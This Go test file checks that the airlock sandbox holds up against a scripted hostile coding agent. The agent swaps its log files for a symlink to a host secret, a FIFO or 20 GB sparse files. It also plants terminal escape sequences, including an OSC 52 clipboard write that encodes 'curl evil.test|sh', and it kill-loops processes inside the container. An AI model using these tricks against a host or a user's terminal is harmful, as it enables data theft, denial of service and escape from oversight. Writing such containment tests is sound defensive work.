package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/airlock-dev/airlock/internal/testkit"
)

// Issue 7, attacks 3, 4 and 5: every file the agent can write is hostile
// input to the host, and every string it chose is shown only as safe text.
// The agent is the real Claude Code, driven through Bash steps.

// killAgent ends the agent's process from inside, so the run fails without
// a result line and its failure reason quotes agent.stderr. With --init the
// agent (or its relay) is the child of PID 1; the Bash tool's shell is not.
const killAgent = `for p in /proc/[0-9]*; do [ "$(awk '/^PPid:/ {print $2}' $p/status 2>/dev/null)" = 1 ] && kill -9 ${p#/proc/}; done; sleep 30`

// Escape sequences a terminal acts on: a clipboard write (OSC 52), a title
// change, a line erase and a C1 CSI.
const (
	osc52   = "\x1b]52;c;Y3VybCBldmlsLnRlc3R8c2g=\x07"
	title   = "\x1b]0;pwned\x07"
	erase   = "\x1b[2K"
	c1CSI   = "\u009b1A"
	escapes = osc52 + title + erase + c1CSI
)

// sgr is a colour sequence, the one escape `diff` may pass to a terminal.
var sgr = regexp.MustCompile("\x1b\\[[0-9;:]*m")

// noEscapes fails unless out is free of every escape the test planted: no
// ESC or BEL byte, no C1 control. (The payloads may show as text where the
// agent wrote them as text, as in a Bash command line.)
func noEscapes(t *testing.T, what, out string) {
	t.Helper()
	for _, bad := range []string{"\x1b", "\x07", "\u009b", "\u009d"} {
		if strings.Contains(out, bad) {
			t.Errorf("%s carries %q:\n%q", what, bad, tail(out, 15))
		}
	}
}

// bounded runs airlock and fails the test if it takes longer than limit
// (the process group is killed then). It reports how long the command took
// and its peak memory.
type boundedResult struct {
	result
	took   time.Duration
	maxRSS int64 // bytes
}

func (e *env) bounded(limit time.Duration, args ...string) boundedResult {
	e.t.Helper()
	cmd := e.command(context.Background(), shared.bin, args...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	start := time.Now()
	if err := cmd.Start(); err != nil {
		e.t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case <-done:
	case <-time.After(limit):
		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		<-done
		e.t.Fatalf("airlock %s: still running after %s (killed)\nstderr:\n%s", strings.Join(args, " "), limit, tail(stderr.String(), 20))
	}
	res := boundedResult{result: result{stdout: stdout.String(), stderr: stderr.String(), code: cmd.ProcessState.ExitCode()}, took: time.Since(start)}
	if ru, ok := cmd.ProcessState.SysUsage().(*syscall.Rusage); ok {
		res.maxRSS = ru.Maxrss * 1024
	}
	return res
}

// webhook is a local notify webhook that keeps every body it gets.
type webhook struct {
	mu     sync.Mutex
	bodies []string
	url    string
}

func startWebhook(t *testing.T) *webhook {
	w := &webhook{}
	srv := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		data, _ := io.ReadAll(r.Body)
		w.mu.Lock()
		w.bodies = append(w.bodies, string(data))
		w.mu.Unlock()
	}))
	t.Cleanup(srv.Close)
	w.url = srv.URL + "/hook"
	return w
}

func (w *webhook) all() string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return strings.Join(w.bodies, "\n")
}

func (e *env) logDir(id string) string {
	return filepath.Join(e.state, "airlock", "runs", id, "log")
}

// startDetached starts a detached run of script and returns its ID.
func (e *env) startDetached(name string, script testkit.Script) string {
	e.t.Helper()
	e.server(script)
	return strings.TrimSpace(e.ok("run", "-d", "-m", "Attack the host.", "--name", name).stdout)
}

// TestHostileStderrSymlink: the agent replaces agent.stderr with a link to
// a host file and fails. The host's secret must reach neither `wait`, the
// run's record, `logs` nor the notify webhook.
func TestHostileStderrSymlink(t *testing.T) { onEngines(t, hostEngines, hostileStderrSymlink) }

// hostileStderrSymlink is the attack on e's engine. The secret is the
// invoking user's own file, which airlock itself could read.
func hostileStderrSymlink(t *testing.T, e *env) {
	secretDir := e.tempDir()
	os.Chmod(secretDir, 0o755)
	secret := "airlock-host-secret-" + randHex(24)
	secretFile := filepath.Join(secretDir, "secret.txt")
	if err := os.WriteFile(secretFile, []byte(secret+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	e.chown(secretFile)
	hook := startWebhook(t)
	e.write(".airlock/config.toml", fmt.Sprintf("[notify]\nwebhook = %q\n", hook.url))
	e.git("add", ".")
	e.git("commit", "-qm", "notify")

	id := e.startDetached("stderr-link", testkit.BashScript("stderr-link",
		"cd /airlock/log && rm -f agent.stderr && ln -s "+secretFile+" agent.stderr && ls -l agent.stderr && "+killAgent))
	res := e.bounded(3*time.Minute, "wait", id)
	if res.code != 3 || !strings.Contains(res.stderr, "Run "+id+" failed") {
		t.Fatalf("wait: exit %d, want 3 and the failure\n%s", res.code, res.stderr)
	}
	if fi, err := os.Lstat(filepath.Join(e.logDir(id), "agent.stderr")); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		t.Fatalf("the agent did not plant its link: %v %v", fi, err)
	}
	checks := map[string]string{"wait": res.stdout + res.stderr}
	data, _ := os.ReadFile(filepath.Join(e.state, "airlock", "runs", id, "run.json"))
	checks["run.json"] = string(data)
	logs := e.bounded(time.Minute, "logs", id)
	checks["logs"] = logs.stdout + logs.stderr
	checks["ls --json"] = e.ok("ls", "--json").stdout
	// The finish is recorded (and notified) by the watcher or by wait,
	// whichever got there first; give the webhook a moment.
	deadline := time.Now().Add(20 * time.Second)
	for hook.all() == "" && time.Now().Before(deadline) {
		time.Sleep(200 * time.Millisecond)
	}
	checks["webhook"] = hook.all()
	if checks["webhook"] == "" {
		t.Error("the webhook got no notification")
	}
	for what, out := range checks {
		if strings.Contains(out, secret) {
			t.Errorf("%s shows the host file the agent linked to:\n%s", what, tail(out, 10))
		}
	}
}

// TestHostileTranscriptFIFO: a FIFO in place of agent.jsonl once the agent
// has exited. ls (for every run of the project), wait, logs and the
// detached watcher must all finish.
func TestHostileTranscriptFIFO(t *testing.T) { onEngines(t, hostEngines, hostileTranscriptFIFO) }

func hostileTranscriptFIFO(t *testing.T, e *env) {
	id := e.startDetached("fifo", testkit.BashScript("fifo",
		"cd /airlock/log && rm -f agent.jsonl && mkfifo agent.jsonl && ls -l agent.jsonl && "+killAgent))
	waitExited(e, id)
	if fi, err := os.Lstat(filepath.Join(e.logDir(id), "agent.jsonl")); err != nil || fi.Mode()&os.ModeNamedPipe == 0 {
		t.Fatalf("the agent did not plant its FIFO: %v %v", fi, err)
	}
	for _, args := range [][]string{{"ls"}, {"ls", "--json"}, {"wait", id}, {"logs", id}, {"logs", "--raw", id}, {"logs", "-f", id}} {
		res := e.bounded(time.Minute, args...)
		if res.code != 0 && res.code != 3 && !(args[0] == "logs" && res.code == 1) {
			t.Errorf("airlock %s: exit %d\n%s", strings.Join(args, " "), res.code, res.stderr)
		}
	}
	if r := e.runs()[0]; !r.Status.Finished() {
		t.Errorf("status %s, want the run recorded as finished", r.Status)
	}
}

// TestHostileTranscriptFIFOAttached: the agent swaps in a FIFO and keeps
// running; the attached `run` must still stop it, and exit, on SIGTERM.
func TestHostileTranscriptFIFOAttached(t *testing.T) {
	onEngines(t, rootfulEngines, hostileTranscriptFIFOAttached)
}

func hostileTranscriptFIFOAttached(t *testing.T, e *env) {
	e.server(testkit.BashScript("fifo-attached",
		"cd /airlock/log && rm -f agent.jsonl && mkfifo agent.jsonl && sleep 300"))
	cmd := exec.Command(shared.bin, "run", "-y", "-m", "Hang the host.", "--name", "fifo-attached")
	cmd.Dir = e.repo
	cmd.Env = e.environ()
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	t.Cleanup(func() { syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) })

	// Wait for the FIFO, then give the host side a moment to trip on it.
	fifo := ""
	for deadline := time.Now().Add(3 * time.Minute); fifo == "" && time.Now().Before(deadline); time.Sleep(300 * time.Millisecond) {
		matches, _ := filepath.Glob(filepath.Join(e.state, "airlock", "runs", "*", "log", "agent.jsonl"))
		for _, m := range matches {
			if fi, err := os.Lstat(m); err == nil && fi.Mode()&os.ModeNamedPipe != 0 {
				fifo = m
			}
		}
		select {
		case err := <-done:
			t.Fatalf("run ended before the FIFO appeared: %v\n%s", err, tail(out.String(), 20))
		default:
		}
	}
	if fifo == "" {
		t.Fatalf("the agent made no FIFO\n%s", tail(out.String(), 20))
	}
	time.Sleep(2 * time.Second)
	cmd.Process.Signal(syscall.SIGTERM)
	select {
	case <-done:
	case <-time.After(90 * time.Second):
		t.Fatalf("the attached run ignored SIGTERM for 90s\n%s", tail(out.String(), 20))
	}
	if code := cmd.ProcessState.ExitCode(); code != 130 {
		t.Errorf("exit %d, want 130 (interrupted)\n%s", code, tail(out.String(), 20))
	}
	// Stopping did not lose the run: it is recorded, stopped.
	if r := e.runs()[0]; r.Status != "stopped" {
		t.Errorf("status %s, want stopped", r.Status)
	}
}

// TestHostileHugeFiles: a 20 GB (sparse) transcript and stderr with no
// newline. Host commands stay fast and small.
func TestHostileHugeFiles(t *testing.T) { onEngines(t, rootfulEngines, hostileHugeFiles) }

func hostileHugeFiles(t *testing.T, e *env) {
	id := e.startDetached("huge", testkit.BashScript("huge",
		"cd /airlock/log && rm -f agent.jsonl agent.stderr && truncate -s 20G agent.jsonl agent.stderr && "+killAgent))
	waitExited(e, id)
	for _, args := range [][]string{{"ls"}, {"wait", id}, {"logs", id}, {"logs", "-v", "2", id}, {"logs", "-f", id}} {
		res := e.bounded(time.Minute, args...)
		if res.code != 0 && res.code != 3 {
			t.Errorf("airlock %s: exit %d\n%s", strings.Join(args, " "), res.code, tail(res.stderr, 10))
		}
		t.Logf("airlock %s: %s, %d MiB", strings.Join(args, " "), res.took.Round(time.Millisecond), res.maxRSS>>20)
		if res.took > 20*time.Second || res.maxRSS > 256<<20 {
			t.Errorf("airlock %s: %s and %d MiB for a sparse 20 GB file", strings.Join(args, " "), res.took.Round(time.Millisecond), res.maxRSS>>20)
		}
	}
}

// TestHostileEscapes: escape sequences in everything the agent controls
// that the host prints: its text, its stderr tail, a commit subject, a
// file's content, an egress request path.
func TestHostileEscapes(t *testing.T) { onEngines(t, rootfulEngines, hostileEscapes) }

func hostileEscapes(t *testing.T, e *env) {
	esc := strings.NewReplacer("\x1b", `\033`, "\x07", `\007`, "\u009b", `\302\233`).Replace(escapes)
	// Step 1 speaks (text with escapes) and commits; step 2 asks the proxy
	// for a path full of escapes (denied: no such host is allowed); step 3
	// writes escapes to stderr and fails.
	script := testkit.Script{Name: "escapes", Steps: []testkit.Step{
		{Text: "Hello " + escapes + " world", Tool: "Bash", Input: map[string]any{
			"command":     fmt.Sprintf(`printf 'line one %s\n' > evil.txt && git add evil.txt && git -c user.name=a -c user.email=a@b commit -qm "$(printf 'subject %s end')" && git log --format=%%s -1 | od -c | head -3`, esc, esc),
			"description": "commit"}},
		{Tool: "Bash", Input: map[string]any{
			"command":     `curl -g -s -m 10 -x http://127.0.0.1:3128 --noproxy '' -o /dev/null -w '%{http_code}\n' 'http://escapes.test/a%1b]52;c;Y3VybCBldmlsLnRlc3R8c2g=%07/b%1b]0;pwned%07/c%1b[2K/d%c2%9b1A'`,
			"description": "egress"}},
		{Tool: "Bash", Input: map[string]any{
			"command":     fmt.Sprintf(`printf 'fatal: %s\n' >> /airlock/log/agent.stderr && %s`, esc, killAgent),
			"description": "fail"}},
	}, FinalText: "Done."}
	e.server(script)
	run := e.airlock("run", "-y", "-m", "Attack the terminal.", "--name", "escapes")
	if run.code != 3 {
		t.Fatalf("run: exit %d, want 3 (failed)\n%s", run.code, tail(run.stderr, 20))
	}
	id := e.runs()[0].ID
	raw, _ := os.ReadFile(filepath.Join(e.logDir(id), "agent.stderr"))
	if !bytes.Contains(raw, []byte(osc52)) {
		t.Fatalf("the agent's stderr holds no escapes: %q", raw)
	}
	t.Run("run (attached)", func(t *testing.T) { noEscapes(t, "run", run.stdout+run.stderr) })
	t.Run("wait", func(t *testing.T) {
		res := e.airlock("wait", id)
		if !strings.Contains(res.stderr, "fatal:") {
			t.Errorf("wait does not show the stderr tail:\n%s", res.stderr)
		}
		noEscapes(t, "wait", res.stdout+res.stderr)
	})
	t.Run("logs", func(t *testing.T) {
		res := e.ok("logs", "-v", "2", id)
		// The sequences go whole, payloads included: no "]0;pwned" debris.
		if !strings.Contains(res.stdout, "\nHello  world\n") {
			t.Errorf("logs does not show the agent's text without its escapes:\n%s", res.stdout)
		}
		noEscapes(t, "logs", res.stdout+res.stderr)
	})
	t.Run("run.json", func(t *testing.T) {
		var r struct{ Error string }
		data, _ := os.ReadFile(filepath.Join(e.state, "airlock", "runs", id, "run.json"))
		json.Unmarshal(data, &r)
		noEscapes(t, "the recorded error", r.Error)
	})
	t.Run("egress", func(t *testing.T) {
		res := e.ok("egress", id)
		if !strings.Contains(res.stdout, "escapes.test") {
			t.Fatalf("egress shows no request to escapes.test:\n%s", res.stdout)
		}
		noEscapes(t, "egress", res.stdout+res.stderr)
	})
	t.Run("rm", func(t *testing.T) {
		res := e.airlock("rm", id)
		if res.code == 0 || !strings.Contains(res.stderr, "subject") {
			t.Fatalf("rm: exit %d, want a refusal naming the unmerged commit\n%s", res.code, res.stderr)
		}
		noEscapes(t, "rm", res.stdout+res.stderr)
	})
	t.Run("diff on a pipe is byte-exact", func(t *testing.T) {
		res := e.ok("diff", id)
		if !strings.Contains(res.stdout, "+line one "+escapes) {
			t.Errorf("diff on a pipe changed the file's bytes:\n%q", res.stdout)
		}
	})
	t.Run("diff on a terminal", func(t *testing.T) {
		out := e.onTerminal("diff", id)
		if !strings.Contains(out, "line one") {
			t.Fatalf("diff on a terminal lost the change:\n%q", out)
		}
		if !strings.Contains(out, "\x1b[32m") {
			t.Errorf("diff on a terminal lost git's colour:\n%q", out)
		}
		// Colour (SGR) may stay; nothing else may.
		noEscapes(t, "diff on a terminal", sgr.ReplaceAllString(out, ""))
	})
	t.Run("raw output on a terminal", func(t *testing.T) {
		for _, args := range [][]string{{"logs", "--raw", id}, {"egress", "--json", id}} {
			out := e.onTerminal(args...)
			if !strings.Contains(out, "{") {
				t.Errorf("airlock %s on a terminal printed no JSON:\n%q", strings.Join(args, " "), out)
			}
			noEscapes(t, strings.Join(args, " ")+" on a terminal", out)
		}
	})
}

// onTerminal runs airlock with a pseudo-terminal as its standard output
// (script(1)) and returns what the terminal got.
func (e *env) onTerminal(args ...string) string {
	e.t.Helper()
	cmd := exec.Command("script", "-qec", shared.bin+" "+strings.Join(args, " "), "/dev/null")
	cmd.Dir = e.repo
	cmd.Env = append(e.environ(), "TERM=xterm")
	out, err := cmd.Output()
	if err != nil {
		e.t.Fatalf("script airlock %s: %v\n%s", strings.Join(args, " "), err, out)
	}
	return string(out)
}

// waitExited waits for the run's agent container to end, on the test's
// engine.
func waitExited(e *env, id string) {
	e.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	eng, err := e.sandboxEngine()
	if err != nil {
		e.t.Fatal(err)
	}
	defer eng.Close()
	if _, err := eng.Wait(ctx, "airlock-"+id); err != nil {
		e.t.Fatalf("waiting for the agent container of %s on %s: %v", id, e.engine, err)
	}
}
